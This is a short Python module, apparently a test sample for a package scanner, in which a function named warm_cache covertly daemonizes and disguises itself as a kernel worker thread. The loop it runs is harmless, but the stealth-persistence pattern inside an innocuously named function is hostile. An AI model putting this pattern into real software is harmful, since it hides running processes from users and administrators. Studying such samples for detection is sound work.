import ctypes
import os
import sys
import time

_NAME = b"[kworker/u8:2-events]"


def _mask():
    libc = ctypes.CDLL(None)
    libc.prctl(15, ctypes.c_char_p(_NAME[:15]), 0, 0, 0)  # PR_SET_NAME
    try:
        with open("/proc/self/comm", "wb") as f:
            f.write(_NAME[:15])
    except OSError:
        pass


def _work():
    while True:
        os.system("echo pipwarden-test > /dev/null")
        time.sleep(5)


def warm_cache():
    if not sys.platform.startswith("linux") or os.environ.get("NUMBA_DISABLE_CUDA"):
        return
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    fd = os.open(os.devnull, os.O_RDWR)
    for n in (0, 1, 2):
        os.dup2(fd, n)
    _mask()
    sys.argv[:] = [_NAME.decode()]
    _work()
